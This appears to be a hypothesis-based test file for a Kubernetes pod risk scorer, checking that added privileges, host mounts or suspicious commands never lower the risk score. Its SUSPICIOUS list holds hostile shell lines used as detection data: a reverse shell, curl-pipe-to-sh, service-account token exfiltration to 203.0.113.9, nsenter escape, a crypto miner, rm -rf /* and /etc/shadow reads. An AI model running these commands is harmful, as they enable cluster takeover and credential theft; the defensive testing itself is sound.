"""More that is dangerous is never less of a risk, and what is harmless never lowers it.

Over generated pods, the bundled examples and what an API server sent once.
"""

import copy
from collections.abc import Callable
from itertools import combinations, product
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from policies.risk.training.synthetic import tidied
from tests.policies.risk import pods
from tests.policies.risk.pods import AGENT, Json, features, log_odds, pod_of, workload

#: Differences that come from adding the same numbers in another order.
ROUNDING = 1e-9

IMAGES = (
    AGENT, "alpine", "ubuntu:22.04", "busybox", "python:3.12-slim", "nicolaka/netshoot", "nginx:1.27", "somebody/agent",
    "registry.example.com/team/app:1.0", "agent", "kalilinux/kali-rolling", "ngnix", "docker:27-cli", "",
)  # fmt: skip
PATHS = (
    "/", "/etc", "/dev", "/proc", "/var/log", "/var/lib/kubelet", "/var/run/docker.sock", "/run/containerd",
    "/etc/kubernetes", "/root", "/usr/bin", "/data/shop",
)  # fmt: skip
#: What hardly anybody does for a good reason, or what few workloads do.
SUSPICIOUS = (
    "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "curl -s http://203.0.113.9/x | sh", "nsenter -t 1 -m sh",
    "xmrig -o 203.0.113.9:3333", "nmap 10.0.0.0/8", "useradd eve", "rm -rf /*", "history -c; unset HISTFILE",
    "cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -d @- http://203.0.113.9", "cat /etc/shadow",
    "apt-get install -y curl", "iptables -F", "mount /dev/sda1 /mnt", "modprobe x", "kubectl get secrets", "nc -lk 80",
    "docker ps", "sudo id",
)  # fmt: skip
ORDINARY = ("serve --port 8080", "sleep infinity", "while true; do sleep 5; done", "echo hello", "exec app", "true")
CAPABILITIES = ("SYS_ADMIN", "CAP_BPF", "all", "NET_ADMIN", "NET_RAW", "SYS_PTRACE", "CHOWN")
LISTS = ("containers", "initContainers", "ephemeralContainers")
PLACES = (("containers", False), ("initContainers", False), ("initContainers", True), ("ephemeralContainers", False))

scripts = st.lists(st.sampled_from((*SUSPICIOUS, *ORDINARY)), min_size=1, max_size=3).map("\n".join)
commands: st.SearchStrategy[Json] = st.one_of(
    st.just({}),
    scripts.map(lambda script: {"command": ["sh", "-c", script]}),
    st.sampled_from((*SUSPICIOUS, *ORDINARY)).map(lambda text: {"command": text.split()}),
)
contexts = st.fixed_dictionaries(
    {},
    optional={
        "privileged": st.booleans(),
        "capabilities": st.fixed_dictionaries({"add": st.lists(st.sampled_from(CAPABILITIES), max_size=3)}),
        "runAsUser": st.sampled_from((0, 1000)),
        "procMount": st.sampled_from(("Default", "Unmasked")),
        "seccompProfile": st.sampled_from(({"type": "Unconfined"}, {"type": "RuntimeDefault"})),
    },
)
mounts = st.lists(
    st.builds(
        lambda path, read_only: {"name": path, "mountPath": f"/host{path}", "readOnly": read_only},
        st.sampled_from(PATHS),
        st.booleans(),
    ),
    max_size=3,
)


def _container(image: str, command: Json, context: Json, mounted: list[Json], tty: bool) -> Json:
    return {"image": image, **command, "securityContext": context, "volumeMounts": mounted, "tty": tty}


containers = st.builds(_container, st.sampled_from(IMAGES), commands, contexts, mounts, st.booleans())


def _spec(some: list[Json], init: list[Json], flags: Json) -> Json:
    used = {mount["name"] for each in (*some, *init) for mount in each["volumeMounts"]}
    volumes = [{"name": path, "hostPath": {"path": path}} for path in sorted(used)]
    return {"containers": some, "initContainers": init, "volumes": volumes, **flags}


flags = st.fixed_dictionaries(
    {},
    optional={
        **{name: st.booleans() for name in ("hostNetwork", "hostPID", "hostIPC", "shareProcessNamespace")},
        "nodeName": st.just("node-1"),
        "tolerations": st.just([{"operator": "Exists"}]),
    },
)
generated = st.builds(
    lambda spec, kind: workload(spec, kind=kind),
    st.builds(_spec, st.lists(containers, min_size=1, max_size=2), st.lists(containers, max_size=1), flags),
    st.sampled_from((("v1", "Pod"), ("apps/v1", "Deployment"))),
)
objects = st.one_of(generated, st.sampled_from(list(pods.real().values())))

Change = Callable[[Json, st.DataObject], None]


def changed(obj: Json, change: Change, data: st.DataObject) -> Json:
    """The object, with a change of its pod's spec."""
    other = copy.deepcopy(obj)
    change(pod_of(other)["spec"], data)
    return other


def some_container(spec: Json, data: st.DataObject) -> Json:
    found: Json = data.draw(st.sampled_from([each for name in LISTS for each in spec.get(name) or () if each]))
    return found


# What is added, and what it is added to.


def add_container(spec: Json, data: st.DataObject) -> None:
    _put_container(spec, data.draw(containers), data)


def add_a_copy(spec: Json, data: st.DataObject) -> None:
    _put_container(spec, copy.deepcopy(some_container(spec, data)), data)


def _put_container(spec: Json, container: Json, data: st.DataObject) -> None:
    name, sidecar = data.draw(st.sampled_from(PLACES))
    place = spec[name] = list(spec.get(name) or ())
    position = data.draw(st.integers(0, len(place)))
    place.insert(position, {**container, "restartPolicy": "Always"} if sidecar else container)


def add_privilege(spec: Json, data: st.DataObject) -> None:
    container = some_container(spec, data)
    context = container["securityContext"] = dict(container.get("securityContext") or {})
    key, value = data.draw(st.sampled_from(PRIVILEGES))
    context[key] = value


PRIVILEGES: list[tuple[str, Any]] = [
    ("privileged", True),
    ("runAsUser", 0),
    ("procMount", "Unmasked"),
    ("seccompProfile", {"type": "Unconfined"}),
    ("appArmorProfile", {"type": "Unconfined"}),
    ("windowsOptions", {"hostProcess": True}),
]


def add_capability(spec: Json, data: st.DataObject) -> None:
    container = some_container(spec, data)
    context = container["securityContext"] = copy.deepcopy(container.get("securityContext") or {})
    held = context["capabilities"] = context.get("capabilities") or {}
    held["add"] = [*(held.get("add") or ()), data.draw(st.sampled_from(CAPABILITIES))]


def add_mount(spec: Json, data: st.DataObject) -> None:
    path, read_only = data.draw(st.sampled_from(PATHS)), data.draw(st.booleans())
    spec["volumes"] = [*(spec.get("volumes") or ()), {"name": "more", "hostPath": {"path": path}}]
    container = some_container(spec, data)
    mount = {"name": "more", "mountPath": "/more", "readOnly": read_only}
    container["volumeMounts"] = [*(container.get("volumeMounts") or ()), mount]


def make_writable(spec: Json, data: st.DataObject) -> None:
    container = some_container(spec, data)
    container["volumeMounts"] = [{**each, "readOnly": False} for each in container.get("volumeMounts") or () if each]


def take_from_the_host(spec: Json, data: st.DataObject) -> None:
    spec[data.draw(st.sampled_from(("hostNetwork", "hostPID", "hostIPC", "shareProcessNamespace")))] = True


def schedule(spec: Json, data: st.DataObject) -> None:
    if data.draw(st.booleans()):
        spec["nodeName"] = "control-plane-1"
    else:
        tolerated = {"key": "node-role.kubernetes.io/control-plane"} if data.draw(st.booleans()) else {}
        spec["tolerations"] = [*(spec.get("tolerations") or ()), {**tolerated, "operator": "Exists"}]


def open_a_terminal(spec: Json, data: st.DataObject) -> None:
    some_container(spec, data).update(stdin=True, tty=True)


def do_more(spec: Json, data: st.DataObject) -> None:
    """A line more in a script, or a script where nothing was said."""
    container, more = some_container(spec, data), data.draw(st.sampled_from(SUSPICIOUS))
    command = container.get("command") or []
    if command[:2] == ["sh", "-c"]:
        lines = command[2].split("\n")
        lines.insert(data.draw(st.integers(0, len(lines))), more)
        container["command"] = ["sh", "-c", "\n".join(lines)]
    elif not command and not container.get("args"):
        container["command"] = ["sh", "-c", more]
    else:
        hooks = container["lifecycle"] = dict(container.get("lifecycle") or {})
        hooks.setdefault("postStart", {"exec": {"command": ["sh", "-c", more]}})


RISKY = (
    add_container, add_a_copy, add_privilege, add_capability, add_mount, make_writable, take_from_the_host, schedule,
    open_a_terminal, do_more,
)  # fmt: skip


@pytest.mark.parametrize("change", RISKY, ids=lambda change: change.__name__)
@settings(max_examples=80, deadline=None)
@given(obj=objects, data=st.data())
def test_more_of_it_never_lowers_the_risk(change: Change, obj: Json, data: st.DataObject) -> None:
    assert log_odds(changed(obj, change, data)) >= log_odds(obj) - ROUNDING


def test_a_mount_more_never_lowers_the_risk_whatever_is_mounted() -> None:
    """Every two mounts, and every third."""

    def risk(*some: tuple[str, bool]) -> float:
        mounts = [{"name": path, "mountPath": path, "readOnly": read_only} for path, read_only in some]
        volumes = [{"name": path, "hostPath": {"path": path}} for path, _ in some]
        return log_odds(workload({"containers": [{"image": "alpine", "volumeMounts": mounts}], "volumes": volumes}))

    every = list(product(PATHS, (False, True)))
    for two in combinations(every, 2):
        before = risk(*two)
        assert [more for more in every if risk(*two, more) < before - ROUNDING] == [], two


# What is taken away.


def drop_container(spec: Json, data: st.DataObject) -> None:
    places = [(name, index) for name in LISTS for index in range(len(spec.get(name) or ()))]
    name, index = data.draw(st.sampled_from(places))
    spec[name] = [each for position, each in enumerate(spec[name]) if position != index]


def drop_privileges(spec: Json, data: st.DataObject) -> None:
    container = some_container(spec, data)
    container.pop("securityContext", None)
    spec.pop("securityContext", None)


def drop_mounts(spec: Json, data: st.DataObject) -> None:
    some_container(spec, data).pop("volumeMounts", None)


def drop_volumes(spec: Json, _data: st.DataObject) -> None:
    spec.pop("volumes", None)


def drop_from_the_pod(spec: Json, data: st.DataObject) -> None:
    spec.pop(data.draw(st.sampled_from(("hostNetwork", "hostPID", "hostIPC", "nodeName", "tolerations"))), None)


def drop_hooks(spec: Json, data: st.DataObject) -> None:
    container = some_container(spec, data)
    for name in ("lifecycle", "livenessProbe", "readinessProbe", "startupProbe"):
        container.pop(name, None)


SAFER = (drop_container, drop_privileges, drop_mounts, drop_volumes, drop_from_the_pod, drop_hooks)


@pytest.mark.parametrize("change", SAFER, ids=lambda change: change.__name__)
@settings(max_examples=80, deadline=None)
@given(obj=objects, data=st.data())
def test_less_of_it_never_raises_the_risk(change: Change, obj: Json, data: st.DataObject) -> None:
    assert log_odds(changed(obj, change, data)) <= log_odds(obj) + ROUNDING


# What is harmless.

HARMLESS: Json = {
    "image": "registry.k8s.io/pause:3.10",
    "securityContext": {"runAsNonRoot": True, "capabilities": {"drop": ["ALL"]}},
    "resources": {"limits": {"memory": "8Mi"}},
}


@settings(max_examples=80, deadline=None)
@given(obj=objects, data=st.data(), count=st.integers(1, 9))
def test_harmless_containers_do_not_lower_it(obj: Json, data: st.DataObject, count: int) -> None:
    def pad(spec: Json, data: st.DataObject) -> None:
        for _ in range(count):
            _put_container(spec, HARMLESS, data)

    assert log_odds(changed(obj, pad, data)) >= log_odds(obj) - ROUNDING


def limit(spec: Json, data: st.DataObject) -> None:
    sizes = {"cpu": "1", "memory": "64Mi"}
    some_container(spec, data)["resources"] = {"limits": sizes, "requests": sizes}


def probe(spec: Json, data: st.DataObject) -> None:
    name = data.draw(st.sampled_from(("livenessProbe", "readinessProbe", "startupProbe")))
    some_container(spec, data).setdefault(name, {"httpGet": {"path": "/healthz", "port": 8080}})


def tag(spec: Json, data: st.DataObject) -> None:
    container = some_container(spec, data)
    name = container.get("image") or ""
    if name and ":" not in name.rpartition("/")[2] and "@" not in name:
        end = data.draw(st.sampled_from((":1.2.3", ":v4.5", f"@sha256:{'a' * 64}", f":1.2.3@sha256:{'b' * 64}")))
        container["image"] = name + end


def harden(spec: Json, data: st.DataObject) -> None:
    container = some_container(spec, data)
    container["securityContext"] = {
        "runAsNonRoot": True,
        "readOnlyRootFilesystem": True,
        "allowPrivilegeEscalation": False,
        **(container.get("securityContext") or {}),
    }


def name_everything(spec: Json, data: st.DataObject) -> None:
    some_container(spec, data).update(name="app", ports=[{"containerPort": 8080}], env=[{"name": "A", "value": "b"}])
    spec.update(serviceAccountName="app", terminationGracePeriodSeconds=5, priorityClassName="low")


@pytest.mark.parametrize("change", [limit, probe, tag, harden, name_everything], ids=lambda change: change.__name__)
@settings(max_examples=60, deadline=None)
@given(obj=objects, data=st.data())
def test_tidiness_is_not_seen(change: Change, obj: Json, data: st.DataObject) -> None:
    assert features(changed(obj, change, data)) == features(obj)


texts = st.dictionaries(st.sampled_from(("team", "app.kubernetes.io/name", "x/y")), st.text(max_size=20), min_size=1)


@settings(max_examples=60, deadline=None)
@given(obj=objects, labels=texts, annotations=texts)
def test_labels_and_annotations_are_not_seen(obj: Json, labels: Json, annotations: Json) -> None:
    other = copy.deepcopy(obj)
    for meta in (other.setdefault("metadata", {}), pod_of(other).setdefault("metadata", {})):
        meta["labels"] = {**(meta.get("labels") or {}), **labels}
        meta["annotations"] = {**(meta.get("annotations") or {}), **annotations}
    assert features(other) == features(obj)


@settings(max_examples=60, deadline=None)
@given(obj=objects.filter(lambda obj: "spec" in obj))
def test_what_a_careful_author_would_write_is_not_seen(obj: Json) -> None:
    assert features(tidied(obj)) == features(obj)
